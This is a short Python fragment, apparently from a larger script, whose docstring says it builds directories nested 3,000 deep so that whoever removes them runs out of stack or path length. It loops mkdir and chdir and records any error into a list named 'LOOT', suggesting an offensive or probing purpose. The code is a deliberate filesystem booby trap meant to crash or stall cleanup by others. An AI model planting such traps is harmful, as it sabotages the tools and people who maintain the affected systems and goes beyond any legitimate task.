"""Makes folders nested 3,000 deep, so that whoever removes them runs out of stack or path."""
try:
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
except OSError as error:
    LOOT.append(repr(error))
